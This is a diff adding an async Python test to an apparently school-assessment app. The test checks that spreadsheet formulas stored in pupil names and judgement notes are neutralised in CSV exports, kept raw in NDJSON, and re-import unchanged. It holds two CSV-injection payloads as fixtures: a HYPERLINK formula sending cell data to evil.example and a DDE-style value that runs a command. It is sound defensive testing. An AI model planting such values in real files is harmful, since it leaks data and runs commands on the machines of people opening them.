@@ -596,3 +596,57 @@ def _http_scope(path: str, query: str, token: str) -> dict[str, Any]:
         "client": ("127.0.0.1", 50000),
         "server": ("stepwise.test", 80),
     }
+
+
+# --- spreadsheet safety ----------------------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+FORMULA_NOTE = "+cmd|' /C calc'!A1"
+
+
+async def test_cells_a_spreadsheet_would_run_are_quoted_in_csv_raw_in_ndjson_and_reimport(
+    client: httpx.AsyncClient, world: World
+) -> None:
+    """A pupil named like a formula and a note that runs a command: inert when a school opens
+    the CSV in Excel, as stored in NDJSON, and an export re-imports with every row unchanged."""
+    system, uow = Principal.system(), world.runtime.system_uow
+    await pupils.update_pupil(
+        uow(), system, pupils.UpdatePupil(world.pupil.id, None, forename=FORMULA_NAME)
+    )
+    await judgements.record_judgement(
+        uow(),
+        system,
+        judgements.RecordJudgement(
+            world.pupil.id,
+            world.framework.strands[0].id,
+            world.modules[0].id,
+            world.framework.steps[1].id,
+            assessor="@Ms Patel",
+            note=FORMULA_NOTE,
+        ),
+    )
+    school = {"school_id": str(world.school.id)}
+
+    for resource, column, value in (
+        ("pupils", "forename", FORMULA_NAME),
+        ("judgements", "note", FORMULA_NOTE),
+        ("judgements", "assessor", "@Ms Patel"),
+    ):
+        as_csv = _rows(await _export(client, world, resource, format="csv", **school))
+        as_ndjson = _rows(await _export(client, world, resource, format="ndjson", **school))
+        assert [r[column] for r in as_csv if r[column].lstrip("'") == value] == ["'" + value]
+        assert [r[column] for r in as_ndjson if r[column] == value] == [value]
+
+    for resource in ("pupils", "judgements"):
+        exported = await _export(client, world, resource, format="csv", **school)
+        again = await client.post(
+            f"/api/v1/imports/{resource}",
+            params={**school, "source": "export.csv"},
+            content=exported.content,
+            headers={**world.headers("school_admin"), "Content-Type": "text/csv"},
+        )
+        assert again.status_code == 200, again.text
+        counts = again.json()["counts"]
+        assert (counts["inserted"], counts["updated"]) == (0, 0), again.text
+    stored = await pupils.get_pupil(uow(), system, world.pupil.id, world.runtime.pseudonymiser)
+    assert stored.forename == FORMULA_NAME
